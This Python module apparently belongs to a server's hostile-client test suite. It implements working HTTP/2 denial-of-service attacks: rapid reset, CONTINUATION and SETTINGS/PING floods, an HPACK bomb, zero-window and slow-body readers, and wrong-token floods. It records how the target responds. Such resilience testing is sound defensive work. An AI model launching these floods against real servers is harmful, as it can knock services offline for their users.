"""Attacks with HTTP/2 on one connection: floods of frames, large and many fields, endless bodies and answers."""

import time

from Tests.Clients.hostile.offender import stream_reset, until_closed
from Tests.Clients.hostile.target import ANONYMOUS, CREDENTIALS, GIVE_UP_SECONDS, PAYLOAD, Outcome, attacks, blocks
from Tests.support.http2_wire import (
    CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, INITIAL_WINDOW_SIZE, PING, PREFACE, PRIORITY,
    RST_STREAM, SETTINGS_ACK, WINDOW_UPDATE, Wire, frame, settings)

attack = attacks("frames")
REFUSED = ("apns-expiration", "soon")


@attack("rapid reset")
def _(target):
    wire = target.wire()
    made = blocks(wire, target.fields())

    def make():
        parts = []
        for _ in range(50):
            stream = wire.take()
            parts += [frame(HEADERS, END_HEADERS, stream, next(made)),
                      frame(RST_STREAM, 0, stream, (8).to_bytes(4, "big"))]
        return b"".join(parts)
    return until_closed(wire, make)


@attack("streams beyond the limit")
def _(target):
    wire = target.wire()
    made = blocks(wire, target.fields())
    return until_closed(wire, lambda: b"".join(
        frame(HEADERS, END_HEADERS, wire.take(), next(made)) for _ in range(50)))


def continuation_flood(name, block, count):
    @attack(name)
    def _(target):
        wire = target.wire()
        stream = wire.take()
        first = [frame(HEADERS, END_STREAM, stream, b"\x82")]
        return until_closed(
            wire, lambda: (first.pop() if first else b"") + frame(CONTINUATION, 0, stream, block) * count)


continuation_flood("CONTINUATION flood", b"", 100)
continuation_flood("large CONTINUATION flood", (b"\x00\x7f\xf1\x00x" + b"x" * 367) * 40, 1)


def flood(name, made):
    @attack(name)
    def _(target):
        return until_closed(target.wire(), lambda: made * 200)


flood("SETTINGS flood", settings((INITIAL_WINDOW_SIZE, 65_535)))
flood("SETTINGS acknowledgement flood", SETTINGS_ACK)
flood("PING flood", frame(PING, payload=bytes(8)))
flood("PRIORITY flood", frame(PRIORITY, 0, 1, bytes(4) + b"\xff"))
flood("WINDOW_UPDATE flood", frame(WINDOW_UPDATE, payload=b"\0\0\0\x01"))
flood("flood of unknown frames", frame(0x16, payload=b"x"))


@attack("PING flood, answers not read", waits=True)
def _(target):
    wire = target.wire(receive_buffer=4_096)
    batch = frame(PING, payload=bytes(8)) * 200
    return until_closed(wire, lambda: batch, reads=False)


def on_a_request(name, part, count):
    @attack(name)
    def _(target):
        wire = target.wire()
        stream = wire.take()
        wire.send(frame(HEADERS, END_HEADERS, stream, wire.block(target.fields())))
        return until_closed(wire, lambda: frame(DATA, 0, stream, part) * count)


on_a_request("empty DATA flood", b"", 100)
on_a_request("DATA of one byte each", b"x", 100)
on_a_request("endless body", bytes(16_384), 1)


@attack("HPACK bomb")
def _(target):
    wire = target.wire()
    # One field of 4,000 bytes added to the table, then named 4,000 times: 16 MB out of 4 kB.
    first = b"\x40\x01a\x7f\xa1\x1e" + b"x" * 4_000
    wire.send(frame(HEADERS, END_HEADERS | END_STREAM, wire.take(), first + b"\xbe" * 4_000))
    return until_closed(wire, lambda: b"")


@attack("large and many header fields")
def _(target):
    wire = target.wire()
    field = b"\x00\x01a\x7f\x81\x06" + b"x" * 897
    wire.send(frame(HEADERS, END_HEADERS | END_STREAM, wire.take(), field * 16))
    return until_closed(wire, lambda: frame(PING, payload=bytes(8)), pause=0.02)


@attack("wrong tokens", waits=True)
def _(target):
    wire = target.wire()
    wrong = target.secrets.bearer[:-8] + "AAAAAAAA"
    made = blocks(wire, target.fields(bearer=wrong))
    return until_closed(
        wire, lambda: frame(HEADERS, END_HEADERS | END_STREAM, wire.take(), next(made)), pause=0.01)


@attack("bad requests without a token", (ANONYMOUS,))
def _(target):
    wire = target.wire()
    made = blocks(wire, [(":method", "GET"), *target.fields()[1:4]])
    return until_closed(
        wire, lambda: frame(HEADERS, END_HEADERS | END_STREAM, wire.take(), next(made)), pause=0.01)


@attack("slow body", waits=True)
def _(target):
    wire = target.wire()
    stream = wire.take()
    wire.send(frame(HEADERS, END_HEADERS, stream, wire.block(target.fields())))
    return stream_reset(wire, lambda: frame(DATA, 0, stream, b"x"))


@attack("zero-window reader, 200 refused requests", (CREDENTIALS,), waits=True)
def _(target):
    wire = target.wire(pairs=[(INITIAL_WINDOW_SIZE, 0)])
    started = time.monotonic()
    open_streams = {wire.take() for _ in range(200)}
    for stream in sorted(open_streams):
        wire.send(frame(HEADERS, END_HEADERS | END_STREAM, stream, wire.block(target.fields(REFUSED))))
    while open_streams:
        received = wire.read(GIVE_UP_SECONDS)
        if received is None:
            return Outcome(time.monotonic() - started, "closed", wire.taken)
        if received.kind == RST_STREAM:
            open_streams.discard(received.stream)
    return Outcome(time.monotonic() - started, "streams: CANCEL", wire.taken)


@attack("refused pushes without end, answers not read", (CREDENTIALS,), waits=True)
def _(target):
    wire = target.wire(receive_buffer=4_096)
    made = blocks(wire, target.fields(REFUSED))
    return until_closed(wire, lambda: b"".join(
        frame(HEADERS, END_HEADERS | END_STREAM, wire.take(), next(made)) for _ in range(100)), reads=False)


@attack("1,000 streams at once (served)", (CREDENTIALS,))
def _(target):
    wire = target.keep(Wire(target.port, target.ca, timeout=GIVE_UP_SECONDS))
    started, waiting, parts = time.monotonic(), set(), [PREFACE, settings()]
    for _ in range(1_000):
        stream = wire.take()
        waiting.add(stream)
        parts += [frame(HEADERS, END_HEADERS, stream, wire.block(target.fields())),
                  frame(DATA, END_STREAM, stream, PAYLOAD)]
    # All of it fits into the sockets' buffers. Sending in a second thread would race with the reader within OpenSSL,
    # which would then treat the connection as closed.
    wire.send(*parts, SETTINGS_ACK)
    refused, said = 0, "closed"
    while waiting:
        received = wire.read()
        if received is None:
            return Outcome(None, f"{said} with {len(waiting)} unanswered", 1_000)
        if received.kind == GOAWAY:
            said = f"{received.code} {received.payload[8:].decode()}"
        if received.kind in (HEADERS, RST_STREAM) and received.stream in waiting:
            waiting.remove(received.stream)
            refused += received.kind == RST_STREAM
    return Outcome(time.monotonic() - started, f"{1_000 - refused} answered", 1_000, 1_000 - refused,
                   (1_000 - refused) * len(PAYLOAD))
